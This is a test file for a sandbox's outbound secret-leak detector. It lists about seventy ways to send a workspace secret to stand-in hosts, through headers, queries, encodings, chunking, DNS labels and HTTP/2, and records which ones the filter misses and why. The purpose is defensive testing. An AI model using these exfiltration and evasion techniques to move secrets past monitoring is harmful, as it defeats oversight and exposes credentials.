"""S5: a secret that is inside all the same leaves: one the vault knows, or one whose form is well known.

It lies in a file of the workspace. Every request but what it carries is allowed. This is a tripwire, not a wall: the
tables say what is caught and what is not, both are asserted, and what policy keeps outside cannot leave at all.
"""

import dataclasses
import json
from collections.abc import Iterator

import pytest

from tests import requirements
from tests.attacks import keeping, trail
from tests.attacks.arena import Arena, Ran
from tests.attacks.crossing import EVIL, GOOD, entries
from tests.attacks.keeping import LEAK, SCRIPT
from tests.lab import Lab

OPAQUE, SECOND, BELOW = "pypi.example.com", "h2.example.com", "x.public.example.net"
EXEMPT = "npm.example.com"
ALLOWED = f"""
[network]
ask-timeout = "2s"
allow = ["{GOOD}:80,443", "{EVIL}:80,443", "*.{BELOW}:80", "{EXEMPT}:443",
         {{ host = "{OPAQUE}", inspection = "sni" }}, {{ host = "{SECOND}", http2 = true }}]
"""
# The plain run taints itself with the first leak; what else it then loses is not what is measured here.
POLICY = f"""{ALLOWED}
[secrets.service]
source = {{ env = "SERVICE_TOKEN" }}
[leaks]
exempt = ["{EXEMPT}"]
on-taint = "record"
"""


@dataclasses.dataclass(frozen=True, slots=True)
class Leak:
    """One way out. `step` sends VALUE to NAME below `/seen/`, so that the lab logs what arrived; `why` it passes."""

    name: str
    step: str
    why: str = ""

    @property
    def caught(self) -> bool:
        """Whether it does not arrive."""
        return not self.why


def head(name: str, arguments: str, why: str = "") -> Leak:
    """One request without a body, to the path SEEN unless `arguments` name another."""
    path = "" if "path=" in arguments else "path=SEEN, "
    return Leak(name, f"https(whole({path}{arguments}))", why)


def body(name: str, expression: str, why: str = "", *, more: str = "''") -> Leak:
    """One request whose body is what the expression gives."""
    return Leak(name, f"https(whole('POST', SEEN, more={more}, body={expression}))", why)


def chunked(name: str, parts: str, *, more: str = "''") -> Leak:
    """One request whose body comes in these parts."""
    start = "whole('POST', SEEN, more='Transfer-Encoding: chunked\\r\\n')"
    return Leak(name, f"https({start} + chunks({parts}, more={more}))")


CODED = "'Content-Encoding: %s\\r\\n'"
JSON = "'Content-Type: application/json\\r\\n'"
FORM = "'Content-Type: application/x-www-form-urlencoded\\r\\n'"
PIECES = "in pieces, each too short to be known"
TURNED = "a transformation with a key or a rule of one's own"
RARE = "an alphabet, or a charset, that hardly anything uses by itself"
PACKED = "compressed within a body, without a coding that says so"
NOT_LOOKED_INTO = "nobody looks into a tunnel, nor into HTTP/2 (`sni`, `raw`, `http2`)"

LABEL = "label-below-a-wildcard"

KNOWN = (
    head("query", "path=SEEN + '?a=' + VALUE"),
    head("path", "path=SEEN + '/' + VALUE + '/x'"),
    head("name-in-the-query", "path=SEEN + '?' + VALUE + '=1'"),
    head("header", "more='X-A: ' + VALUE + '\\r\\n'"),
    head("authorization", "more='Authorization: Bearer ' + VALUE + '\\r\\n'"),
    head("password-of-basic", "more='Authorization: Basic ' + mixed('user:' + VALUE) + '\\r\\n'"),
    head("cookie", "more='Cookie: a=b; c=' + VALUE + '\\r\\n'"),
    head("user-agent", "more='User-Agent: x ' + VALUE + '\\r\\n'"),
    head("name-of-a-header", "more='X-' + VALUE + ': 1\\r\\n'"),
    head("query-in-base64", "path=SEEN + '?a=' + quote(mixed(VALUE), safe='')"),
    head("query-in-hexadecimal", "path=SEEN + '?a=' + VALUE.encode().hex()"),
    head("query-in-percent-signs", "path=SEEN + '?a=' + ''.join('%%%02x' % ord(c) for c in VALUE)"),
    head("query-in-two-percent-signs", "path=SEEN + '?a=' + ''.join('%%25%02x' % ord(c) for c in VALUE)"),
    body("plain", "VALUE.encode()"),
    body("form", "('a=b&c=' + VALUE).encode()", more=FORM),
    body("json", "json.dumps({'a': {'b': [VALUE]}}).encode()", more=JSON),
    body("json-in-json", "json.dumps({'a': json.dumps({'b': '\"' + VALUE})}).encode()", more=JSON),
    body("json-escaped", "('{\"a\":\"' + ''.join('\\\\u%04x' % ord(c) for c in VALUE) + '\"}').encode()", more=JSON),
    body("html-escaped", "''.join('&#%d;' % ord(c) for c in VALUE).encode()"),
    body("quoted-printable", "''.join('=%02X' % ord(c) for c in VALUE).encode()"),
    body(
        "multipart",
        "('--b\\r\\nContent-Disposition: form-data; name=\"a\"\\r\\n\\r\\n' + VALUE + '\\r\\n--b--').encode()",
    ),
    body("base64", "base64.b64encode(VALUE.encode())"),
    body("base64-one-byte-on", "base64.b64encode(b'x' + VALUE.encode())"),
    body("base64-two-bytes-on", "base64.b64encode(b'xy' + VALUE.encode())"),
    body("base64-for-urls", "base64.urlsafe_b64encode(b'?' + VALUE.encode())"),
    body("base64-in-lines", "base64.encodebytes(bytes(40) + VALUE.encode() + bytes(40))"),
    body("base32", "base64.b32encode(VALUE.encode())"),
    body("hexadecimal", "VALUE.encode().hex().encode()"),
    body("hexadecimal-in-capitals", "VALUE.encode().hex().upper().encode()"),
    body("hexadecimal-with-colons", "VALUE.encode().hex(':').encode()"),
    body("numbers", "json.dumps(list(VALUE.encode())).encode()"),
    body("utf-16", "VALUE.encode('utf-16-le')"),
    body("gzip", "gzip.compress(VALUE.encode())", more=CODED % "gzip"),
    body("gzip-of-base64", "gzip.compress(base64.b64encode(VALUE.encode()))", more=CODED % "gzip"),
    body(
        "gzip-in-two-members",
        "gzip.compress(VALUE[:9].encode()) + gzip.compress(VALUE[9:].encode())",
        more=CODED % "gzip",
    ),
    body("deflate", "zlib.compress(VALUE.encode())", more=CODED % "deflate"),
    body("behind-a-megabyte", "bytes(1 << 20) + VALUE.encode()"),
    body("across-the-edge-of-a-buffer", "bytes(65536 - 10) + VALUE.encode() + bytes(99)"),
    chunked("chunks", "VALUE.encode()"),
    chunked("split-over-chunks", "VALUE[:7].encode(), VALUE[7:].encode()"),
    chunked("a-byte-in-each-chunk", "*(c.encode() for c in VALUE)"),
    chunked("trailer", "b'x'", more="'X-A: ' + VALUE + '\\r\\n'"),
    Leak("plain-http", "http(whole(path=SEEN, more='X-A: ' + VALUE + '\\r\\n'))"),
    Leak("body-of-plain-http", "http(whole('POST', SEEN, body=VALUE.encode()))"),
    Leak("another-host", f"https(whole(path=SEEN + '?' + VALUE, host={EVIL!r}), {EVIL!r})"),
    Leak(
        "url-of-a-websocket",
        "https(whole(path=SEEN + '?' + VALUE, more='Connection: Upgrade\\r\\nUpgrade: websocket\\r\\n', last=False)"
        " + whole(path='/ok'))",
    ),
    body("lines", "'\\n'.join(VALUE[at : at + 9] for at in range(0, len(VALUE), 9)).encode()"),
    body("quoted-printable-in-lines", "quopri.encodestring(b'x' * 60 + VALUE.encode())"),
    body(
        "hexadecimal-in-lines", "base64.b16encode(VALUE.encode())[:20] + b'\\n' + base64.b16encode(VALUE.encode())[20:]"
    ),
    body("double-base64", "base64.b64encode(base64.b64encode(VALUE.encode()))", "encoded twice"),
    body("base85", "base64.b85encode(VALUE.encode())", RARE),
    body("uuencode", "codecs.encode(VALUE.encode(), 'uu')", RARE),
    body("utf-7", "b'+' + base64.b64encode(VALUE.encode('utf-16-be')) + b'-'", RARE),
    body("ebcdic", "VALUE.encode('cp500')", RARE),
    body("characters", "json.dumps(list(VALUE)).encode()", TURNED),
    body("reversed", "VALUE[::-1].encode()", TURNED),
    body("rot13", "VALUE.translate(ROT13).encode()", TURNED),
    body("xor", "bytes(byte ^ 1 for byte in VALUE.encode())", TURNED),
    body("swapped-pairs", "''.join(b + a for a, b in zip(VALUE[::2], VALUE[1::2])).encode()", TURNED),
    body("spaced", "' '.join(VALUE).encode()", TURNED),
    body("capitals", "VALUE.swapcase().encode()", TURNED),
    body("gzip-unsaid", "gzip.compress(VALUE.encode())", PACKED),
    body("zip", "zipped(VALUE)", PACKED),
    body("half-of-it", "VALUE[: len(VALUE) // 2].encode()", PIECES),
    head("two-headers", "more='X-A: ' + VALUE[:15] + '\\r\\nX-B: ' + VALUE[15:] + '\\r\\n'", PIECES),
    Leak(
        "two-requests",
        "https(whole('POST', SEEN, body=VALUE[:15].encode())) + https(whole('POST', SEEN, body=VALUE[15:].encode()))",
        PIECES,
    ),
    Leak("a-request-for-each-letter", "b''.join(https(whole(path=SEEN + '/' + c)) for c in VALUE)", PIECES),
    Leak("tunnel", f"https(whole(path=SEEN + '?' + VALUE, host={OPAQUE!r}), {OPAQUE!r})", NOT_LOOKED_INTO),
    Leak(
        "http2",
        f"subprocess.run(['curl', '-skS', '-m40', '--http2', '-HX-A: ' + VALUE, 'https://{SECOND}' + SEEN],"
        " capture_output=True).stdout",
        NOT_LOOKED_INTO,
    ),
    Leak(
        LABEL,
        f"http(whole(path=SEEN, host=VALUE + '.{BELOW}'), VALUE + '.{BELOW}')",
    ),
    Leak(
        "encrypted-label-below-a-wildcard",
        f"http(whole(path=SEEN, host=turned + '.{BELOW}'), turned + '.{BELOW}')",
        "a name is a text like any other",
    ),
    Leak("exempt-host", f"https(whole(path=SEEN + '?' + VALUE, host={EXEMPT!r}), {EXEMPT!r})", "policy exempts it"),
)
# Forms of well-known credentials, put together here so that no scanner takes them for somebody's. No value of the
# vault is among them; what has no form of its own cannot be told from other text.
LETTERS = "Zk3Qw9Lr7Xv2Bn8Mc4Tj6Hd1Fs5Gp0YaUeIoRiEvKx"
SHAPES = {
    "github": ("gh" + "p_" + LETTERS[:36], ""),
    "github-app": ("gh" + "s_" + LETTERS[2:38], ""),
    "github-fine-grained": ("github_" + "pat_" + "11" + LETTERS[:20] + "_" + LETTERS + LETTERS[:16], ""),
    "gitlab": ("glp" + "at-" + LETTERS[:20], ""),
    "aws-key-id": ("AKIA" + "Z3QW7LRXV2BNMC4T", ""),
    "anthropic": ("sk-ant-" + "api03-" + (LETTERS * 3)[:93] + "AA", ""),
    "openai": ("sk-" + "proj-" + LETTERS[:20] + "T3Blbk" + "FJ" + LETTERS[:20], ""),
    "slack": ("xox" + "b-123456789012-1234567890123-" + LETTERS[:24], ""),
    "stripe": ("sk_" + "live_" + LETTERS[:24], ""),
    "google": ("AI" + "zaSy" + LETTERS[:33], ""),
    "npm": ("npm" + "_" + LETTERS[:36], ""),
    "pypi": ("pypi-" + "AgEIcHlwaS5vcmc" + (LETTERS * 2)[:70], ""),
    "private-key": (
        "-----BEGIN " + "PRIVATE KEY-----\n" + (LETTERS * 2)[:64] + "\n-----END " + "PRIVATE KEY-----\n",
        "",
    ),
    "password": ("correct horse battery staple", "a text without a form of its own"),
    "uuid": ("7c1f9a52-3d6e-4b08-9f21-6a5d0c4e8b37", "a text without a form of its own"),
    "aws-secret": (LETTERS[:40], "a text without a form of its own"),
}
FOUND = (
    *(body(f"{name}-in-a-body", f"SHAPES[{name!r}].encode()", why) for name, (_, why) in SHAPES.items()),
    *(
        head(f"{name}-in-a-query", f"path=SEEN + '?a=' + quote(SHAPES[{name!r}], safe='')", SHAPES[name][1])
        for name in ("github", "slack", "aws-key-id", "password")
    ),
    head("github-in-a-header", "more='X-A: ' + SHAPES['github'] + '\\r\\n'"),
    head("github-in-a-cookie", "more='Cookie: a=' + SHAPES['github'] + '\\r\\n'"),
    body("github-in-json", "json.dumps({'a': SHAPES['github']}).encode()", more=JSON),
    body("github-in-gzip", "gzip.compress(b'x=' + SHAPES['github'].encode())", more=CODED % "gzip"),
    chunked("github-split-over-chunks", "SHAPES['github'][:9].encode(), SHAPES['github'][9:].encode()"),
    body("github-in-base64", "base64.b64encode(b'x ' + SHAPES['github'].encode())"),
    body("github-reversed", "SHAPES['github'][::-1].encode()", TURNED),
    body("github-in-halves", "(SHAPES['github'][:20] + ' ' + SHAPES['github'][20:]).encode()", PIECES),
)
LEAKS = KNOWN + FOUND
RECOGNISED = [shape for shape, why in SHAPES.values() if not why]
TABLE = (
    SCRIPT
    + f"""
import codecs, io, quopri, string, subprocess, zipfile
VALUE = open("notes.txt").read()
SHAPES = { ({name: shape for name, (shape, _) in SHAPES.items()})!r}
ROT13 = str.maketrans(string.ascii_lowercase, string.ascii_lowercase[13:] + string.ascii_lowercase[:13])
turned = VALUE[:20].translate(ROT13)

def zipped(text):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("x", text)
    return file.getvalue()

for name, step in {[(leak.name, leak.step) for leak in LEAKS]!r}:
    SEEN = "/seen/" + name
    try:
        data = eval(step)
    except (OSError, ValueError) as error:
        data = repr(error).encode()
    print("leak", name, data[:200], flush=True)
"""
)


def noted(arena: Arena) -> None:
    """The value lies about in the workspace, where no rule expects it."""
    keeping.two_tokens(arena)
    arena.write("@workspace@/notes.txt", arena.canary)


TABLED = dataclasses.replace(
    keeping.misuse("leaks", TABLE, policy=POLICY, evidence=lambda arena, ran: False), prepare=noted
)


@dataclasses.dataclass(frozen=True, slots=True)
class Arrived:
    """What of one run arrived: the names of leaks, from their paths. And what the audit says."""

    names: frozenset[str]
    output: str
    records: tuple[tuple[str, str], ...] = ()
    telling: tuple[str, ...] = ()  # records that hold a secret


def arrived(arena: Arena, ran: Ran) -> Arrived:
    """Read the lab's log; a request counts when all of it is there."""
    assert ran.output.count("\nleak ") + ran.output.startswith("leak ") == len(LEAKS), ran.output[-2000:]
    seen = [entry for entry in entries(arena) if entry["kind"] == "body" or entry.get("version") == "HTTP/2"]
    names = {entry["path"].partition("?")[0].split("/")[2] for entry in seen}
    # Of this one the name alone tells everything, to whoever answers for it.
    told = any(entry["kind"] == "dns" and arena.canary in entry["name"] for entry in entries(arena))
    names ^= {LABEL} & names
    return Arrived(frozenset(names | ({LABEL} if told else set())), ran.output)


@pytest.fixture(scope="module")
def steady() -> Iterator[None]:
    """No standby outlives these runs."""
    requirements.require("bubblewrap", "overlay", "network-lab", "curl")
    with pytest.MonkeyPatch.context() as patched:
        patched.setenv("RINGFENCE_STANDBY", "0")
        yield


@pytest.fixture(scope="module")
def bare(lab: Lab, steady: None) -> Arrived:
    """Without a boundary."""
    with Arena.open(noted, lab) as arena:
        return arrived(arena, arena.unconfined(TABLED))


@pytest.fixture(scope="module")
def unkept(lab: Lab, steady: None) -> Arrived:
    """Within a boundary that lets the same hosts be reached and searches nothing."""
    with Arena.open(noted, lab) as arena:
        return arrived(arena, arena.confined(keeping.unkept(TABLED)))


@pytest.fixture(scope="module")
def kept(lab: Lab, steady: None) -> Arrived:
    """Within a boundary that knows the secret and searches what goes out."""
    with Arena.open(noted, lab) as arena:
        # The value is in the environment of the vault alone; this script finds it in the workspace.
        ran = arena.confined(dataclasses.replace(TABLED, script=TABLED.script.replace(TOKEN_LINE, "TOKEN = ''\n")))
        records = trail.of_one_run(arena, ran.output)
        own = [("launch", ""), ("command", "begun")]  # which have the script
        written = [json.dumps(record.fields) for record in records if (record.kind, record.code) not in own]
        telling = tuple(text for text in written if any(secret in text for secret in (arena.canary, *RECOGNISED)))
        codes = tuple((one.kind, one.code) for one in records)
        return dataclasses.replace(arrived(arena, ran), records=codes, telling=telling)


TOKEN_LINE = 'TOKEN = os.environ["SERVICE_TOKEN"]\n'


@pytest.mark.timeout(400)  # the first of them makes three runs of all
@pytest.mark.parametrize("leak", LEAKS, ids=lambda leak: leak.name)
def test_leak(leak: Leak, bare: Arrived, unkept: Arrived, kept: Arrived) -> None:
    """It arrives without a boundary and without the rule; with it exactly where the table says so."""
    assert leak.name in bare.names, bare.output[-3000:]
    assert leak.name in unkept.names, unkept.output[-3000:]
    assert (leak.name in kept.names) is not leak.caught, kept.output[-6000:]


def test_what_is_caught_is_recorded_and_taints(kept: Arrived) -> None:
    assert ("denial", LEAK) in kept.records
    assert "taint" in {kind for kind, _ in kept.records}


def test_no_record_holds_what_was_kept_from_leaving(kept: Arrived) -> None:
    """Neither a value of the vault nor a credential that was recognised, wherever in the request it stood."""
    assert kept.telling == ()


def test_the_refusal_says_why_and_not_what(kept: Arrived) -> None:
    (line,) = [line for line in kept.output.splitlines() if line.startswith("leak query ")]
    assert "403" in line and LEAK in line


@pytest.mark.parametrize("tables", ["[leaks]\nexempt = []\n", '[leaks]\nfound = "deny"\n'])
def test_what_is_well_known_is_found_without_any_secret(tables: str, lab: Lab, steady: None) -> None:
    """`[leaks]` alone: the run has no secret of its own to know."""
    step = f"SEEN = '/seen/x'\nattempt(lambda: {body('x', repr(SHAPES['github'][0].encode())).step})"
    script = SCRIPT.replace(TOKEN_LINE, "TOKEN = ''\n") + step
    attack = dataclasses.replace(TABLED, script=script, policy=ALLOWED + tables)
    with Arena.open(noted, lab) as arena:
        ran = arena.confined(attack)
        assert not [entry for entry in entries(arena) if entry["kind"] == "body"], ran.output
        assert ("denial", LEAK) in {(one.kind, one.code) for one in trail.of_one_run(arena, ran.output)}


def ask(lab: Lab, more: str) -> tuple[bool, list[tuple[str, str]]]:
    """Send the value in a body under other rules; whether it arrived, and what was recorded."""
    step = "SEEN = '/seen/x'\nVALUE = open('notes.txt').read()\nattempt(lambda: %s)"
    script = SCRIPT.replace(TOKEN_LINE, "TOKEN = ''\n") + step % body("x", "VALUE.encode()").step
    attack = dataclasses.replace(TABLED, script=script, policy=POLICY.replace("[leaks]\n", f"[leaks]\n{more}\n"))
    with Arena.open(noted, lab) as arena:
        ran = arena.confined(attack)
        bodies = [entry for entry in entries(arena) if entry["kind"] == "body"]
        records = [(one.kind, one.code) for one in trail.of_one_run(arena, ran.output)]
        return any(arena.canary in entry["text"] for entry in bodies), records


def test_what_policy_allows_passes_and_is_recorded(lab: Lab, steady: None) -> None:
    passed, records = ask(lab, 'known = "allow"')
    assert passed and ("secret", "leak-allowed") in records


def test_without_somebody_who_answers_asking_is_refusing(lab: Lab, steady: None) -> None:
    """The question waits; nobody inside can answer it."""
    passed, records = ask(lab, 'known = "ask"')
    assert not passed and any(code in (LEAK, "egress-denied") for _, code in records)


def test_the_tables_are_honest_about_both() -> None:
    assert sum(leak.caught for leak in KNOWN) >= 40 and sum(not leak.caught for leak in KNOWN) >= 10
    assert all(len(leak.why.split()) >= 2 for leak in LEAKS if not leak.caught)
